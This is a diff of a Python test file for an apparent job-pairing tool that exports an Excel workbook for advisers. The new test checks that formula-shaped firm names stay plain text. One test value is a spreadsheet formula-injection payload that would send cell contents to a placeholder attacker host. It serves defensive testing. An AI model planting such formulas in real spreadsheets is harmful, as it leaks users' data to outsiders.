@@ -509,3 +509,15 @@ def test_a_list_too_long_or_declaring_a_huge_sheet_is_refused_before_it_is_read(
                          '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
     with pytest.raises(PairingInputError, match="« creux.xlsx », feuille « sheet1 » : la feuille s'étend sur"):
         read_list(sparse.getvalue(), "fragile", small_territory(), file_name="creux.xlsx")
+
+
+def test_a_firm_named_like_a_formula_stays_text_in_the_advisers_workbook():
+    territory = placed_territory()
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    fragile = rows("fragile", [(trap, "10001", "A1101", 1)])
+    hiring = rows("hiring", [("=1+1", "10004", "A1101", 1)])
+    result = pair_jobs(fragile, hiring, territory, max_km=15)
+    book = load_workbook(io.BytesIO(pairing_xlsx(result, fragile, hiring)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert trap in [c.value for c in cells] and "=1+1" in [c.value for c in cells]
